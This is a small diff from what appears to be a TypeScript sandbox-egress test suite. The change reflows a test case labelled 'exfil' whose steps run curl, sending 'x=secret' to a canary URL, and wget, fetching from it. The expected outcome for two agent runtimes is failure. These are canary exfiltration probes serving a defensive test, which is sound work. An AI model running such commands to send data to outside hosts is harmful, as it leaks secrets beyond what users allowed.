@@ -8,7 +8,10 @@ export const outward: Scripts = ({ canaryUrl, canaryPort, home, trips }) => {
     {
       name: "curl",
       kind: "exfil",
-      steps: [run(`curl -s -m 3 '${canaryUrl}/curl?x=secret'`), run(`wget -q -T 3 -t 1 -O - ${canaryUrl}/wget`)],
+      steps: [
+        run(`curl -s -m 3 '${canaryUrl}/curl?x=secret'`),
+        run(`wget -q -T 3 -t 1 -O - ${canaryUrl}/wget`),
+      ],
       told: { loop: failed, codex: failed },
     },
     {
